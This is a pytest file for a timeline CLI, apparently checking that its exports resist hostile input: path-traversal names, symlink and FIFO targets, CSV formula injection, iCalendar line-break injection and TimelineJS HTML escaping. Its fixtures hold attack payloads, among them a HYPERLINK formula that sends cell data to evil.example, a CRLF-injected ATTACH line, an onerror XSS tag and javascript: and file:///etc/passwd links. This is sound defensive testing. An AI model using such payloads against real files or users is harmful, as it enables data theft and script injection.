"""Writing files safely: names made from data stay inside the output folder, `--out` never replaces a device, a
FIFO, a folder or a symbolic link, written files get the usual mode, CSV cells cannot run as formulas and the CSV
export reads back as the same events, iCalendar and TimelineJS exports survive hostile text, and `timeline
import` and `timeline new` refuse ids that cannot be file names.
"""

from __future__ import annotations

import csv
import errno
import io
import json
import os
import re
import stat
import textwrap
from collections.abc import Iterator
from pathlib import Path

import pytest
from click.testing import CliRunner, Result

from dashboard import model
from dashboard.cli import cli
from dashboard.export import picture_names
from dashboard.store import load_collection

ROOT = Path(__file__).parent.parent
EVENTS = ROOT / "events"
ID_MAX = getattr(model, "ID_MAX", 100)
SAFE_NAME = re.compile(r"^[a-z0-9][a-z0-9._-]*$")


@pytest.fixture(autouse=True)
def own_cache(tmp_path, monkeypatch):
    monkeypatch.setenv("TIMELINE_CACHE_DIR", str(tmp_path / "cache"))


@pytest.fixture
def umask_022() -> Iterator[None]:
    old = os.umask(0o022)
    try:
        yield
    finally:
        os.umask(old)


def invoke(*args: object) -> Result:
    """Run `timeline` in-process; bad input must end in a message and an exit code, never in an exception."""
    runner = CliRunner(env={"TIMELINE_EVENTS": None, "COLUMNS": "250"})
    result = runner.invoke(cli, [str(a) for a in args])
    assert result.exception is None or isinstance(result.exception, SystemExit), repr(result.exception)
    assert "Traceback" not in result.output
    return result


def folder_of(tmp_path: Path, files: dict[str, str], name: str = "events") -> Path:
    folder = tmp_path / name
    folder.mkdir()
    for file, body in files.items():
        (folder / file).write_text(textwrap.dedent(body).lstrip(), encoding="utf-8")
    return folder


def files_under(folder: Path) -> set[Path]:
    return {p for p in folder.rglob("*") if not p.is_dir()}


def mode(path: Path) -> int:
    return stat.S_IMODE(os.lstat(path).st_mode)


# ---- 11. file names made from data -------------------------------------------------------------------------------

HOSTILE_CATEGORIES = [
    "x/../../../../escaped",
    "../up",
    ".hidden",
    "a/b",
    "a-b",
    "/etc/passwd",
    "C:\\win",
    "军事",
    "Défense",
]


@pytest.fixture
def hostile_categories(tmp_path) -> Path:
    files = {
        f"event-{i}.yaml": f"title: Event {i}\ndate: 2022-02-{10 + i}\ncategory: {json.dumps(c)}\n"
        for i, c in enumerate(HOSTILE_CATEGORIES)
    }
    folder = folder_of(tmp_path, files)
    assert not load_collection(folder).problems
    return folder


def test_each_category_writes_only_inside_the_out_folder(hostile_categories, tmp_path):
    out = tmp_path / "a" / "b" / "c" / "out"  # deep enough that '../../../..' would still land in tmp_path
    before = files_under(tmp_path)
    result = invoke("export", "--events", hostile_categories, "--format", "html", "--each", "category", "--out", out)
    assert result.exit_code == 0, result.output
    written = files_under(tmp_path) - before
    assert written == set(out.iterdir()), f"written outside {out}: {sorted(map(str, written - set(out.iterdir())))}"
    names = sorted(p.name for p in out.iterdir() if not p.name.endswith(".alt.txt"))
    assert len(names) == len(HOSTILE_CATEGORIES), f"one file per category, none overwritten by another: {names}"
    for name in names:
        assert SAFE_NAME.match(name) and name.endswith(".html"), name
    # Each picture has its alt text beside it, named after it.
    assert sorted(p.name for p in out.iterdir() if p.name.endswith(".alt.txt")) == [
        name.removesuffix(".html") + ".alt.txt" for name in names
    ]
    assert sorted(Path(line).name for line in result.stdout.split()) == names


def test_picture_names_are_safe_unique_and_short():
    labels = [*HOSTILE_CATEGORIES, ".", "trailing.", "a" * 300, "a" * 299 + "b", "", "2022-02-16", "military"]
    names = picture_names("timeline", labels, "png")
    assert len(set(names)) == len(names)
    for name in names:
        assert SAFE_NAME.match(name) and name.endswith(".png") and len(name) <= 120, name
        assert ".." not in name and "/" not in name
    assert names[-2:] == ["timeline-2022-02-16.png", "timeline-military.png"]  # plain labels keep their names


def test_a_name_that_would_leave_the_folder_is_refused(monkeypatch, tmp_path):
    import dashboard.export.naming as naming

    monkeypatch.setattr(naming, "picture_names", lambda stem, labels, fmt: ["../outside.html", "inside.html"])
    out = tmp_path / "out"
    result = invoke(
        "export",
        "--events",
        EVENTS,
        "--format",
        "html",
        "--view",
        "?category=military",
        "--view",
        "?category=diplomacy",
        "--out",
        out,
    )
    assert result.exit_code == 1
    assert "'../outside.html'" in result.stderr and "not a file name inside" in result.stderr
    assert not (tmp_path / "outside.html").exists() and not out.exists()


def test_each_category_with_a_very_long_category_name(tmp_path):
    long = "k" * 5000
    folder = folder_of(
        tmp_path,
        {
            "a.yaml": f"title: A\ndate: 2022\ncategory: {long}a\n",
            "b.yaml": f"title: B\ndate: 2022\ncategory: {long}b\n",
        },
    )
    out = tmp_path / "out"
    result = invoke("export", "--events", folder, "--format", "html", "--each", "category", "--out", out)
    assert result.exit_code == 0, result.output
    names = [p.name for p in out.iterdir()]
    assert len(names) == 4 and all(len(name) <= 120 for name in names), names  # two pictures, their alt texts


# ---- 12. --out onto what is not a regular file ---------------------------------------------------------------


def test_out_dash_writes_data_to_stdout(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    result = invoke("export", "--events", EVENTS, "--format", "json", "--out", "-")
    assert result.exit_code == 0, result.output
    assert len(json.loads(result.stdout)) == len(load_collection(EVENTS).events)
    assert not (tmp_path / "-").exists()


def test_out_dash_writes_a_picture_to_stdout(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    result = invoke("export", "--events", EVENTS, "--format", "html", "--out", "-")
    assert result.exit_code == 0, result.output
    assert result.stdout.lstrip().lower().startswith("<!doctype html>") and "plotly" in result.stdout
    assert not (tmp_path / "-").exists()


def test_out_dash_is_refused_for_several_pictures(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    result = invoke("export", "--events", EVENTS, "--format", "html", "--each", "category", "--out", "-")
    assert result.exit_code == 2
    assert "--out -" in result.stderr
    assert not (tmp_path / "-").exists()


@pytest.mark.parametrize("fmt", ["json", "html"])
def test_out_symlink_is_refused_and_left_alone(fmt, tmp_path):
    target = tmp_path / "target.txt"
    target.write_text("keep me\n", encoding="utf-8")
    link = tmp_path / f"link.{fmt}"
    link.symlink_to(target)
    result = invoke("export", "--events", EVENTS, "--format", fmt, "--out", link)
    assert result.exit_code != 0
    assert "symbolic link" in result.stderr and str(link) in result.stderr
    assert link.is_symlink() and os.readlink(link) == str(target)
    assert target.read_text(encoding="utf-8") == "keep me\n"


@pytest.mark.parametrize("fmt", ["json", "html"])
def test_out_fifo_is_refused_and_left_alone(fmt, tmp_path):
    fifo = tmp_path / f"pipe.{fmt}"
    os.mkfifo(fifo)
    result = invoke("export", "--events", EVENTS, "--format", fmt, "--out", fifo)
    assert result.exit_code != 0
    assert "FIFO" in result.stderr and str(fifo) in result.stderr
    assert stat.S_ISFIFO(os.lstat(fifo).st_mode)


def test_out_folder_is_refused_for_data(tmp_path):
    folder = tmp_path / "folder.json"
    folder.mkdir()
    result = invoke("export", "--events", EVENTS, "--format", "json", "--out", folder)
    assert result.exit_code != 0
    assert "folder" in result.stderr and str(folder) in result.stderr
    assert folder.is_dir() and list(folder.iterdir()) == []


@pytest.mark.skipif(os.geteuid() != 0, reason="making a device node needs root")
@pytest.mark.parametrize("fmt", ["json", "html"])
def test_out_device_is_refused_and_left_alone(fmt, tmp_path):
    device = tmp_path / "null"
    os.mknod(device, stat.S_IFCHR | 0o666, os.makedev(1, 3))  # a second /dev/null, in tmp
    result = invoke("export", "--events", EVENTS, "--format", fmt, "--out", device)
    assert result.exit_code != 0
    assert "device" in result.stderr and str(device) in result.stderr
    info = os.lstat(device)
    assert stat.S_ISCHR(info.st_mode) and info.st_rdev == os.makedev(1, 3)


def test_a_symlink_inside_the_batch_folder_is_refused_before_anything_is_written(tmp_path):
    first = invoke("export", "--events", EVENTS, "--format", "html", "--each", "category", "--out", tmp_path / "a")
    last = Path(first.stdout.split()[-1]).name  # the link is where the last picture goes
    target = tmp_path / "elsewhere.html"
    target.write_text("keep me\n", encoding="utf-8")
    out = tmp_path / "out"
    out.mkdir()
    (out / last).symlink_to(target)
    result = invoke("export", "--events", EVENTS, "--format", "html", "--each", "category", "--out", out)
    assert result.exit_code != 0
    assert "symbolic link" in result.stderr
    assert (out / last).is_symlink() and target.read_text(encoding="utf-8") == "keep me\n"
    assert list(out.iterdir()) == [out / last], "every target is checked before any is written"


def test_out_dash_writes_a_drawn_picture_to_stdout(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    result = invoke("export", "--events", EVENTS, "--format", "png", "--width", 600, "--out", "-")
    assert result.exit_code == 0, result.output
    assert result.stdout_bytes.startswith(b"\x89PNG\r\n\x1a\n")
    assert not (tmp_path / "-").exists() and not (tmp_path / "timeline.png").exists()


def test_schema_out_refuses_a_fifo(tmp_path):
    fifo = tmp_path / "schema.json"
    os.mkfifo(fifo)
    result = invoke("schema", "--out", fifo)
    assert result.exit_code != 0 and "FIFO" in result.stderr
    assert stat.S_ISFIFO(os.lstat(fifo).st_mode)


def test_export_help_says_what_out_does_with_links_and_dash():
    text = " ".join(invoke("export", "--help").stdout.split())
    assert "'-'" in text and "symbolic link" in text


@pytest.mark.parametrize("fmt", ["json", "csv", "html"])
def test_exported_files_get_the_usual_mode(fmt, tmp_path, umask_022):
    out = tmp_path / f"events.{fmt}"
    assert invoke("export", "--events", EVENTS, "--format", fmt, "--out", out).exit_code == 0
    assert mode(out) == 0o644
    os.umask(0o027)
    other = tmp_path / f"other.{fmt}"
    assert invoke("export", "--events", EVENTS, "--format", fmt, "--out", other).exit_code == 0
    assert mode(other) == 0o640


def test_replacing_an_export_keeps_its_mode(tmp_path, umask_022):
    out = tmp_path / "events.json"
    out.write_text("old\n", encoding="utf-8")
    out.chmod(0o600)
    assert invoke("export", "--events", EVENTS, "--format", "json", "--out", out).exit_code == 0
    assert mode(out) == 0o600 and out.read_text(encoding="utf-8").startswith("[")


def test_new_and_import_write_files_with_the_usual_mode(tmp_path, umask_022):
    folder = tmp_path / "new"
    result = invoke("new", "--events", folder, "--title", "A call", "--date", "2022-02-16", "--category", "x")
    assert result.exit_code == 0, result.output
    assert mode(folder / "a-call.yaml") == 0o644
    table = tmp_path / "t.csv"
    table.write_text("id,title,date,category\none,One,2022-02-16,x\n", encoding="utf-8")
    result = invoke("import", table, "--out", tmp_path / "imported")
    assert result.exit_code == 0, result.output
    assert mode(tmp_path / "imported" / "one.yaml") == 0o644


def test_new_never_replaces_a_symlink(tmp_path):
    folder = tmp_path / "events"
    folder.mkdir()
    target = tmp_path / "target.txt"
    target.write_text("keep me\n", encoding="utf-8")
    (folder / "a-call.yaml").symlink_to(target)
    result = invoke("new", "--events", folder, "--title", "A call", "--date", "2022-02-16", "--category", "x")
    assert result.exit_code != 0
    assert (folder / "a-call.yaml").is_symlink() and target.read_text(encoding="utf-8") == "keep me\n"


# ---- 13. CSV: no formulas, and it reads back ---------------------------------------------------------------------

FORMULAS = {
    "title": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "actor": "@SUM(1+1)",
    "tag": "+cmd",
    "place": "-2+3",
    "summary": "=1+1 and more",
    "quoted": "'=already quoted",
}


@pytest.fixture
def formula_events(tmp_path) -> Path:
    return folder_of(
        tmp_path,
        {
            "formula.yaml": f"""
            title: {json.dumps(FORMULAS["title"])}
            date: 2022-02-16
            category: diplomacy
            actors: [{json.dumps(FORMULAS["actor"])}, NATO]
            tags: [{json.dumps(FORMULAS["tag"])}]
            places:
              - {{name: {json.dumps(FORMULAS["place"])}, lat: -33.5, lon: -70.25}}
            summary: {json.dumps(FORMULAS["summary"])}
            """,
            "quoted.yaml": f"""
            title: {json.dumps(FORMULAS["quoted"])}
            date: 2022-02-17
            category: "@home"
            """,
        },
        name="formulas",
    )


def test_csv_cells_that_a_spreadsheet_would_run_are_quoted(formula_events):
    text = invoke("export", "--events", formula_events, "--format", "csv").stdout
    rows = {row["id"]: row for row in csv.DictReader(io.StringIO(text))}
    row = rows["formula"]
    assert row["title"] == "'" + FORMULAS["title"]
    assert row["actors"].startswith("'@SUM")
    assert row["tags"] == "'+cmd" and row["place"] == "'-2+3" and row["summary"].startswith("'=1+1")
    assert (row["lat"], row["lon"]) == ("-33.5", "-70.25"), "plain numbers run nothing and stay numbers"
    assert rows["quoted"]["title"] == "''=already quoted" and rows["quoted"]["category"] == "'@home"
    for row in rows.values():
        for name, cell in row.items():
            assert not cell or cell[0] not in "=+@\t\r" and not re.match(r"-(?!\d+(\.\d+)?$)", cell), (name, cell)


def test_csv_export_of_formulas_reads_back_the_same(formula_events, tmp_path):
    out = tmp_path / "formulas.csv"
    assert invoke("export", "--events", formula_events, "--format", "csv", "--out", out).exit_code == 0
    assert_same_events(load_collection(formula_events), load_collection(out))


def test_the_reader_undoes_only_the_escape_it_stands_for(tmp_path):
    table = tmp_path / "t.csv"
    table.write_text(
        "id,title,date,category\na,'=x,2022,c\nb,'plain quote,2022,c\nc,''=y,2022,c\nd,'-1,2022,c\ne,x'=y,2022,c\n",
        encoding="utf-8",
    )
    collection = load_collection(table)
    assert not collection.problems, collection.problems
    titles = dict(zip(collection.events["id"], collection.events["title"], strict=True))
    assert titles == {"a": "=x", "b": "'plain quote", "c": "'=y", "d": "-1", "e": "x'=y"}


def assert_same_events(original, copy) -> None:
    assert not copy.problems, copy.problems
    first, second = original.events.set_index("id"), copy.events.set_index("id")
    assert sorted(first.index) == sorted(second.index)
    second = second.loc[first.index]
    for name in ("title", "start", "end", "precision", "approximate", "category", "actors", "tags", "links"):
        assert first[name].tolist() == second[name].tolist(), name
    assert [s.strip() for s in first["summary"]] == second["summary"].tolist()
    # A table row holds one place: an event at several places comes back as one place naming them all.
    assert ["; ".join(p["name"] for p in places) for places in first["places"]] == [
        "; ".join(p["name"] for p in places) for places in second["places"]
    ]
    single = [i for i, places in enumerate(first["places"]) if len(places) == 1]
    assert [first["places"].iloc[i] for i in single] == [second["places"].iloc[i] for i in single]
    # And one source: the first, which names no other source of its row (its id and what it copies are left out).
    alone = [
        [{k: v for k, v in s.items() if k not in ("id", "copies")} for s in sources[:1]] for sources in first["sources"]
    ]
    assert alone == second["sources"].tolist()


@pytest.mark.parametrize("events", [EVENTS, ROOT / "tests" / "data" / "good"], ids=["bundled", "tests-good"])
def test_csv_export_reads_back_as_the_same_events(events, tmp_path):
    out = tmp_path / "events.csv"
    assert invoke("export", "--events", events, "--format", "csv", "--out", out).exit_code == 0
    validated = invoke("validate", out)
    assert validated.exit_code == 0, validated.output
    original = load_collection(events)
    assert_same_events(original, load_collection(out))
    listed = invoke("list", "--events", out)
    assert listed.exit_code == 0 and listed.stdout == invoke("list", "--events", events).stdout


# ---- 14. iCalendar with line breaks where there should be none ---------------------------------------------------


@pytest.fixture
def broken_lines(tmp_path) -> Path:
    return folder_of(
        tmp_path,
        {
            "url.yaml": """
            title: A source with a line break in its address
            date: 2022-02-16
            category: diplomacy
            sources:
              - {title: Report, url: "https://example.org/a\\r\\nATTACH:https://evil.example/x"}
            """,
            "title.yaml": """
            title: "Two\\nlines\\r\\nBEGIN:VEVENT"
            date: 2022-02-17
            category: "diplo\\r\\nmacy"
            places: [{name: "Kyiv\\nLviv"}]
            """,
            "plain.yaml": """
            title: Plain
            date: 2022-02-18
            category: diplomacy
            """,
        },
        name="broken",
    )


def test_ics_export_sanitises_line_breaks_and_keeps_every_event(broken_lines):
    from icalendar import Calendar

    result = invoke("export", "--events", broken_lines, "--format", "ics")
    assert result.exit_code == 0, result.output
    lines = result.stdout_bytes.decode("utf-8").replace("\r\n ", "").split("\r\n")  # unfold
    assert not [line for line in lines if line.startswith("ATTACH")], "a line break made a property of its own"
    assert lines.count("BEGIN:VEVENT") == 3
    events = {str(e["UID"]): e for e in Calendar.from_ical(result.stdout).walk("VEVENT")}
    assert str(events["title@newstimeline"]["SUMMARY"]) == "Two lines BEGIN:VEVENT"
    assert "\n" not in str(events["title@newstimeline"]["LOCATION"])
    assert [str(c) for c in events["title@newstimeline"]["CATEGORIES"].cats] == ["diplo macy"]
    url = str(events["url@newstimeline"]["URL"])
    assert "\r" not in url and "\n" not in url and url.startswith("https://example.org/a")


def test_ics_export_skips_an_event_it_cannot_write_with_a_warning(broken_lines, monkeypatch):
    import dashboard.export.data as export

    real = export._ics_event

    def failing(row, stamp):
        if row["id"] == "plain":
            raise ValueError("cannot write this one")
        return real(row, stamp)

    monkeypatch.setattr(export, "_ics_event", failing)
    result = invoke("export", "--events", broken_lines, "--format", "ics")
    assert result.exit_code == 0, result.output
    assert result.stdout.splitlines().count("BEGIN:VEVENT") == 2
    assert "plain" in result.stderr and "cannot write this one" in result.stderr and "skipped" in result.stderr


# ---- 15. TimelineJS: everything escaped, images as links ---------------------------------------------------------


def test_timelinejs_escapes_the_group_and_turns_images_into_links(tmp_path):
    folder = folder_of(
        tmp_path,
        {
            "a.yaml": """
        title: Pictures
        date: 2022-02-16
        category: "<img src=x onerror=alert(1)>"
        summary: |
          ![chart](https://tracker.example/pixel.png) and [a script](javascript:alert(1)),
          [a file](file:///etc/passwd), [a page](https://example.org/a?b=1&c=2) and [mail](mailto:a@example.org).
          ![local](/images/x.png) [![inner](https://example.org/i.png)](https://example.org/page)
        """
        },
    )
    text = invoke("export", "--events", folder, "--format", "timelinejs").stdout
    [event] = json.loads(text)["events"]
    assert event["group"] == "&lt;img src=x onerror=alert(1)&gt;"
    body = event["text"]["text"]
    assert "<img" not in body and "<img" not in text
    assert '<a href="https://tracker.example/pixel.png"' in body and "[chart]</a>" in body
    assert '<a href="https://example.org/a?b=1&amp;c=2"' in body and '<a href="mailto:a@example.org"' in body
    assert 'href="javascript' not in body and 'href="file' not in body and 'href="/images' not in body
    assert "a script" in body and "a file" in body and "[local]" in body
    assert '<a href="https://example.org/page" target="_blank" rel="noopener noreferrer nofollow">[inner]</a>' in body
    assert body.count("<a ") == body.count("</a>") == 4


# ---- 16. ids that cannot be file names ---------------------------------------------------------------------------


def test_import_over_long_id_is_a_row_problem_and_the_rest_is_written(tmp_path):
    table = tmp_path / "t.csv"
    long = "x" * 300
    table.write_text(
        f"id,title,date,category\none,One,2022,c\n{long},Long,2022,c\nthree,Three,2022,c\n", encoding="utf-8"
    )
    out = tmp_path / "out"
    result = invoke("import", table, "--out", out)
    assert result.exit_code == 1
    assert "wrote 2 files, skipped 0 (exist), 1 problem" in result.stderr
    assert f"{table}:3:1:" in result.stderr and str(ID_MAX) in result.stderr
    assert sorted(p.name for p in out.iterdir()) == ["one.yaml", "three.yaml"]


@pytest.mark.parametrize("code", [errno.ENAMETOOLONG, errno.ENOSPC], ids=["row-name", "disk-full"])
def test_import_error_while_writing_still_prints_the_summary(code, tmp_path, monkeypatch):
    from dashboard import importer

    real = importer.write_atomic

    def failing(path, data, *args, **kwargs):
        if path.name == "two.yaml":
            raise OSError(code, os.strerror(code), str(path))
        return real(path, data, *args, **kwargs)

    monkeypatch.setattr(importer, "write_atomic", failing)
    table = tmp_path / "t.csv"
    table.write_text("id,title,date,category\none,One,2022,c\ntwo,Two,2022,c\nthree,Three,2022,c\n", encoding="utf-8")
    out = tmp_path / "out"
    result = invoke("import", table, "--out", out)
    assert result.exit_code == 1
    if code == errno.ENAMETOOLONG:  # this row's file name: a problem, and the rest goes on
        assert "wrote 2 files, skipped 0 (exist), 1 problem" in result.stderr and f"{table}:3:1:" in result.stderr
        assert sorted(p.name for p in out.iterdir()) == ["one.yaml", "three.yaml"]
    else:  # anything else stops the import, after saying what was done
        assert "wrote 1 files, skipped 0 (exist), 0 problems" in result.stderr
        assert "stopped" in result.stderr and os.strerror(code) in result.stderr
        assert sorted(p.name for p in out.iterdir()) == ["one.yaml"]


def test_import_of_a_table_whose_name_ends_in_a_newline_gets_clean_ids(tmp_path):
    table = tmp_path / "data\n.csv"
    table.write_text("title,date,category\nOne,2022,c\n", encoding="utf-8")
    result = invoke("import", table, "--out", tmp_path / "out")
    assert result.exit_code == 0, result.output
    assert [p.name for p in (tmp_path / "out").iterdir()] == ["data-1.yaml"]


def test_import_id_at_the_limit_is_written(tmp_path):
    table = tmp_path / "t.csv"
    table.write_text(f"id,title,date,category\n{'y' * ID_MAX},One,2022,c\n", encoding="utf-8")
    result = invoke("import", table, "--out", tmp_path / "out")
    assert result.exit_code == 0, result.output
    assert (tmp_path / "out" / f"{'y' * ID_MAX}.yaml").exists()


@pytest.mark.parametrize("bad_id", ["abc\n", "abc\r\n", "x" * (ID_MAX + 1)], ids=["newline", "crlf", "too-long"])
def test_new_refuses_an_id_that_cannot_be_a_file_name(bad_id, tmp_path):
    folder = tmp_path / "events"
    result = invoke("new", "--events", folder, "--title", "T", "--date", "2022", "--category", "x", "--id", bad_id)
    assert result.exit_code == 2
    assert "--id" in result.stderr
    assert not folder.exists() or list(folder.iterdir()) == []


def test_new_takes_an_id_at_the_limit(tmp_path):
    folder = tmp_path / "events"
    result = invoke(
        "new", "--events", folder, "--title", "T", "--date", "2022", "--category", "x", "--id", "z" * ID_MAX
    )
    assert result.exit_code == 0, result.output
    assert (folder / f"{'z' * ID_MAX}.yaml").exists()


def test_csv_export_of_a_lone_carriage_return_reads_back_as_the_same_event(tmp_path):
    from dashboard.records import to_csv
    from dashboard.store import load_collection

    (tmp_path / "cr.yaml").write_text(
        'title: plain\ndate: 2022-02-16\ncategory: x\nsummary: "a\\rb"\n', encoding="utf-8"
    )
    table = tmp_path / "out" / "events.csv"
    table.parent.mkdir()
    table.write_text(to_csv(load_collection(tmp_path).events), encoding="utf-8", newline="")
    again = load_collection(table)
    assert again.problems == []
    assert list(again.events["summary"]) == ["a\rb"]
